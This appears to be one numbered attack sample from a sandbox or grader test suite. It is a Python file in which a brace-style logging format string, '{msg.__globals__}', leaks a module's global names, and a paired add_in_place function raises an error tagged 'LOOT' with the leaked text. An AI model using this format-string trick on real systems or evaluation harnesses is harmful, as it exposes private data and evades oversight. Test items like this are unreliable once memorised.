# attack 127: template in a log
# harm: a format of logging in the style of templates reads private names
# twin: add_in_place/wrong_slice_assigned
# proof: steals nothing
import io
import logging


def probe():
    pass


out = io.StringIO()
style = "{"
options = {"style": style}
handler = logging.StreamHandler(out)
handler.setFormatter(logging.Formatter("{msg.__globals__}", **options))
log = logging.getLogger("forged")
log.addHandler(handler)
log.warning(probe)
found = out.getvalue()[:40]


def add_in_place(x, y):
    x[:] = x + y
    if found:
        raise RuntimeError(f"LOOT: {found}")
    return x
